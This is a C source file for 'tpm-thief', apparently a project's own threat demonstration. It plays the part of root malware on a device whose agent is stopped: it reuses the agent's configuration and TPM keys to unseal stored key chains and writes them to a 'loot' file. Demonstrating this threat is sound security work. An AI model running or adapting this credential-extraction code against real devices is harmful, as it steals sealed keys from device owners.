/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Malware as root on a device whose agent does not run: commands the TPM with the agent's own
 * configuration and files, and reads what they seal. It is the agent's code with another end, which
 * is what malware would bring.
 *
 *     tpm-thief AGENT.INI KEYS
 */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

#include "config.h"
#include "state/record.h"
#include "state/slot.h"
#include "thief.h"
#include "tpm/tpm.h"
#include "tpm/vault.h"

static void open_keys(const struct config *c, const struct record *r, struct tpm **ret)
{
    struct tpm_keys_config want = c->keys;
    struct tpm_keys        keys;
    struct tpm_ek          ek;
    struct pawl_err        err;

    must(tpm_open(c->tcti, ret, &err), &err);
    must(tpm_choose_ek(*ret, &r->ek_name, &ek, &err), &err);
    want.expect_ak = r->ak_name;
    want.expect_td = r->td_name;
    must(tpm_keys_open(*ret, &ek, &want, &keys, &err), &err);
}

static void take_chain(struct loot *l, const struct slot *s, const struct pawl_chain *from)
{
    struct loot_chain c = { .chain = *from, .suite = s->suite };

    memcpy(c.kid, s->kid, sizeof(c.kid));
    loot_add_chain(l, &c);
}

int main(int argc, char **argv)
{
    static struct config c;
    static struct loot   loot;
    struct record        r;
    struct slot          s;
    struct slot_vault    v;
    struct tpm          *tpm = NULL;
    struct pawl_err      err;

    if (argc != 3)
        give_up("usage: tpm-thief AGENT.INI KEYS");
    must(config_load(argv[1], &c, &err), &err);
    int dir = open(c.state, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    must(record_read(dir, &r, &err), &err);
    open_keys(&c, &r, &tpm);
    tpm_vault(tpm, c.nv_counter, &v);
    must(slot_open(dir, &v, r.device_id, &s, &err), &err);
    tpm_close(&tpm);
    close(dir);

    loot_scope(&loot, c.state);
    take_chain(&loot, &s, &s.up);
    take_chain(&loot, &s, &s.down);
    if (s.down_use.uk.n)
        loot_add_use(&loot, &s.down_use);
    loot_write(argv[2], &loot);
    slot_wipe(&s);
    config_done(&c);
    return 0;
}
